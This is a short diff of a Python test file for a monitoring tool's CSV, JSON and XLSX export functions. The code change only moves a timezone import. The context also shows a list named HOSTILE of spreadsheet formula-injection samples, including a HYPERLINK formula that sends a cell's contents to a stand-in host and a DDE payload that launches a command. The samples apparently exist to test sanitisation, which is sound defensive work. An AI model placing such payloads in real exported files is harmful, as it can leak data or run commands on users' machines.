@@ -13,7 +13,7 @@ import pytest
 from monitor.exports import (display_width, format_table, neutralise, write_csv, write_json,
                              write_xlsx)
 from monitor.regressions import REGRESSION_COLUMNS, Regression
-from monitor.rules.base import SHANGHAI
+from monitor.clock import SHANGHAI
 
 AT = datetime(2024, 10, 20, 9, 30, tzinfo=SHANGHAI)
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-1+1",
